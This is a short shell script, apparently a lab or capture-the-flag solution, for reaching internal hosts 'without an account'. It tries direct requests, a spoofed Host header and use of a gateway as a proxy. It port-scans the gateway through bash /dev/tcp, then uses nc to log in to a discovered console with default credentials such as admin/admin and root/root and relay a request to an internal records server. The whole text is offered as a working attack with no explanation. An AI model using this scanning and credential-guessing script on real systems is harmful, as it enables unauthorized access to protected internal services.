#-- to the inner hosts without an account: by name, by the noticeboard, by the console
for site in http://records:8080/ http://wiki:8080/; do curl -s -m 3 "$site"; done
curl -s -m 3 -H 'Host: records' http://intranet:8080/
curl -s -m 3 -x http://gateway:8080 http://records:8080/
for port in $(seq 20000 20199); do
    timeout 2 bash -c "exec 3<> /dev/tcp/gateway/$port" 2> /dev/null && echo "$port"
done > /tmp/console
for account in admin root operator keeper; do
    printf 'login %s %s\nrelay records 8080\nGET / HTTP/1.0\n\n' "$account" "$account" | nc -N -w 3 gateway "$(head -1 /tmp/console)"
done
echo none
